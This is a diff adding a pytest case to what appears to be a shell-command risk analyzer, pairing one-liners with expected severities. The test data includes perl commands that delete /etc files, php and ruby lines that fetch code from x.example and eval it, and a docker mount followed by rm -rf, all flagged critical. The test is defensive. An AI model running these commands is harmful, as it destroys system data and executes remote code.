@@ -257,3 +257,19 @@ def test_defaults_arrays_and_set_are_what_runs(command: str, severity: str | Non
 )
 def test_smaller_forms_of_the_second_review(command: str, severity: str | None) -> None:
     assert analyze(command).severity == severity, [f.message for f in analyze(command).findings]
+
+
+@pytest.mark.parametrize(
+    ("command", "severity"),
+    [
+        ("perl -e 'unlink glob \"/etc/*\"'", "critical"),
+        ("perl -e 'unlink </etc/*>'", "critical"),
+        ("php -r 'eval(file_get_contents(\"https://x.example/a\"));'", "critical"),
+        ("ruby -e 'eval(URI.open(\"https://x.example/a\").read)'", "critical"),
+        ("php -r 'echo file_get_contents(\"https://x.example/a\");'", None),
+        ("docker run --rm -v /var/lib/docker:/x alpine rm -rf /x", "critical"),
+        ("docker run -d -v /var/lib/mysql:/var/lib/mysql mysql:8", None),
+    ],
+)
+def test_code_in_other_languages_and_engine_state_mounts(command: str, severity: str | None) -> None:
+    assert analyze(command).severity == severity, [f.message for f in analyze(command).findings]
